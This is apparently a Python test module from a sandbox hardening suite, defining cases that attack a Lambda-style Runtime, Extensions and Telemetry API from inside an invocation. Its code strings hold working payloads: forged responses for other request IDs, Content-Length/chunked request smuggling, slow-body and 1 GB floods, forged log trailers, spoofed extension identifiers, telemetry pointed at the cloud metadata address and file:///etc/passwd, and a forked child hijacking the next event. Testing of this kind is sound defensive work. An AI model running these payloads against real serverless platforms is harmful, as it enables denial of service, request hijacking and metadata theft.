"""S5: abuse of the Runtime, Extensions and Telemetry APIs, from inside an invocation."""

from .case import Case

# Bare requests, since a library would not send what is wrong with them.
API = """
def call(method, path, body=b"", headers=(), raw_length=None, wait=5):
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    with socket.create_connection((host, int(port)), timeout=wait) as one:
        length = len(body) if raw_length is None else raw_length
        lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", f"Content-Length: {length}", "Connection: close", *headers]
        try:
            one.sendall("\\r\\n".join(lines).encode() + b"\\r\\n\\r\\n" + body)
        except OSError:
            pass
        try:
            answer = one.recv(65536)
        except OSError:
            return 0
        return int(answer.split()[1]) if answer.startswith(b"HTTP/") else 0

def taken(status):
    # Whether a request that should be refused was not; no answer, or one of a broken server, is a broken attack.
    if 200 <= status < 300:
        return True
    if not 400 <= status < 500:
        raise AssertionError(f"answered {status}")
    return False

RUNTIME = "/2018-06-01/runtime"

def handler(event, context):
    event["id"] = context.aws_request_id
    try:
        return {"succeeded": bool(attack(event)), "stopped_by": None}
    except (OSError, RuntimeError, MemoryError) as error:
        return {"succeeded": False, "stopped_by": repr(error)}
"""

FOREIGN = API + """
def attack(event):
    for other in ("00000000-0000-4000-8000-000000000000", "..", "%2e%2e", event["id"].upper(), event["id"] + "0", "x" * 5000):
        if taken(call("POST", f"{RUNTIME}/invocation/{other}/response", b'"forged"')):
            return True
    return False
"""

TWICE = API + """
def attack(event):
    # The first is taken: an answer is an answer. The second, and the runtime's own, are not.
    first = call("POST", f"{RUNTIME}/invocation/{event['id']}/response", b'{"succeeded": false}')
    assert first == 202, first
    return taken(call("POST", f"{RUNTIME}/invocation/{event['id']}/response", b'{"succeeded": true}'))
"""

BEFORE_NEXT = API + """
def attack(event):
    call("POST", f"{RUNTIME}/invocation/{event['id']}/response", b'{"succeeded": false}')
    time.sleep(0.1)
    return taken(call("POST", f"{RUNTIME}/invocation/{event['id']}/error", b'{}'))
"""

INIT_ERROR = API + """
def attack(event):
    return taken(call("POST", f"{RUNTIME}/init/error", b'{"errorMessage": "late"}'))
"""

NEXT_FLOOD = API + """
def attack(event):
    # A second caller of next while the first has an event: refused or kept waiting, never an event.
    end, got = time.monotonic() + 1, []
    def ask():
        while time.monotonic() < end:
            if call("GET", f"{RUNTIME}/invocation/next", wait=0.05) == 200:
                got.append(1)
    askers = [threading.Thread(target=ask) for _ in range(16)]
    [asker.start() for asker in askers]
    [asker.join() for asker in askers]
    return bool(got)
"""

SLOW_BODY = API + """
def attack(event):
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    one = socket.create_connection((host, int(port)))
    one.sendall(f"POST {RUNTIME}/invocation/{event['id']}/response HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000000\\r\\n\\r\\n".encode())
    while True:
        one.sendall(b"x")
        time.sleep(0.2)
"""

LENGTHS = API + """
def attack(event):
    path = f"{RUNTIME}/invocation/{event['id']}/response"
    statuses = [
        call("POST", path, b'"short"', raw_length=100, wait=0.3),
        call("POST", path, b'"a"', ["Content-Length: 5"], wait=0.3),
        call("POST", path, b"", raw_length=-1, wait=0.3),
        call("POST", path, b"", raw_length="1e9", wait=0.3),
        call("POST", path, b"", raw_length=1 << 70, wait=0.3),
        # Chunks are what counts (RFC 9112, 6.3). Where this one overtakes the first it is the answer, and a verdict too.
        call("POST", path, b'14\\r\\n{"succeeded": false}\\r\\n0\\r\\n\\r\\n', ["Transfer-Encoding: chunked"], raw_length=5, wait=0.3),
    ]
    # A body of two lengths that is taken would be a request hidden in another.
    return statuses[1] == 202
"""

HUGE = API + """
def attack(event):
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    block = b"x" * (1 << 20)
    with socket.create_connection((host, int(port)), timeout=10) as one:
        one.sendall(f"POST {RUNTIME}/invocation/{event['id']}/response HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {1 << 30}\\r\\n\\r\\n".encode())
        try:
            for _ in range(1024):
                one.sendall(block)
        except OSError:
            pass
        try:
            return one.recv(100).split()[1] == b"202"
        except (OSError, IndexError):
            return False
"""

TRAILERS = API + """
def attack(event):
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    with socket.create_connection((host, int(port)), timeout=10) as one:
        one.sendall(f"POST {RUNTIME}/invocation/{event['id']}/error HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: a\\r\\n\\r\\n".encode())
        try:
            one.sendall(b"2\\r\\n{}\\r\\n0\\r\\n")
            for number in range(200_000):
                one.sendall(b"a%d: START RequestId: forged\\r\\n" % number)
        except OSError:
            pass
    return False
"""

EXTENSIONS = API + """
EXTENSION = "/2020-01-01/extension"
def attack(event):
    def register(name):
        return call("POST", f"{EXTENSION}/register", b'{"events": ["INVOKE"]}', [f"Lambda-Extension-Name: {name}", "Content-Type: application/json"])
    late = [register(f"late{number}") for number in range(12)] + [register("../" * 20), register("")]
    spoofed = call("GET", f"{EXTENSION}/event/next", headers=["Lambda-Extension-Identifier: 00000000-0000-4000-8000-000000000000"])
    return any(taken(status) for status in [*late, spoofed])
"""

TELEMETRY = API + """
def attack(event):
    import json
    for uri in ("http://203.0.113.2:8080", "http://198.51.100.10:80", "http://169.254.169.254:80", "https://sandbox:1", "file:///etc/passwd", "http://user@sandbox:80"):
        body = json.dumps({"schemaVersion": "2022-12-13", "types": ["function"], "destination": {"protocol": "HTTP", "URI": uri}}).encode()
        for identifier in ("00000000-0000-4000-8000-000000000000", ""):
            if taken(call("PUT", "/2022-07-01/telemetry", body, [f"Lambda-Extension-Identifier: {identifier}"])):
                return True
    return False
"""


def hijack(range_):
    """A child outlives its invocation and takes the next event. The answer is its own function's and no other's, and is told apart."""
    code = API + """
def attack(event):
    if event.get("plant"):
        if os.fork() == 0:
            os.setsid()
            for _ in range(200):
                call("GET", f"{RUNTIME}/invocation/next", wait=0.2)
            os._exit(0)
    return False
"""
    function = range_.deploy(code, Timeout=3)
    function.invoke({**range_.event(), "plant": True})
    # It hurt itself at most. Who of the two asks first is chance; the event that the child took times out, and the child goes with
    # the reset of its environment: the one after it is answered.
    for _ in range(6):
        if function.invoke(range_.event()).error is not None:
            return "C" if function.invoke(range_.event()).error is None else "H"
    return "C"


CASES = [
    Case(50, "a response to another request", codes=(FOREIGN,), succeeded="L"),
    Case(51, "a response twice", codes=(TWICE,), succeeded="L"),
    Case(52, "an error after the response, before next", codes=(BEFORE_NEXT,), succeeded="L"),
    Case(53, "an initialization error after the initialization", codes=(INIT_ERROR,), succeeded="L"),
    Case(54, "a flood of next", codes=(NEXT_FLOOD,), stopped="C", succeeded="L"),
    Case(55, "a body of five bytes a second, past the deadline", codes=(SLOW_BODY,), stopped="C", succeeded="H", options={"Timeout": 2}),
    Case(56, "lengths that lie", codes=(LENGTHS,), stopped="C", succeeded="L", options={"Timeout": 10}),
    Case(57, "a body of 1 GB", codes=(HUGE,), stopped="C", succeeded="H", options={"Timeout": 30}),
    Case(58, "200,000 trailers", codes=(TRAILERS,), stopped="C", succeeded="H", options={"Timeout": 30}),
    Case(59, "extensions: too late, too many, another's identifier", codes=(EXTENSIONS,), succeeded="L"),
    Case(60, "telemetry to somewhere else", codes=(TELEMETRY,), succeeded="L"),
    Case(61, "a child that takes over next", run=hijack),
]
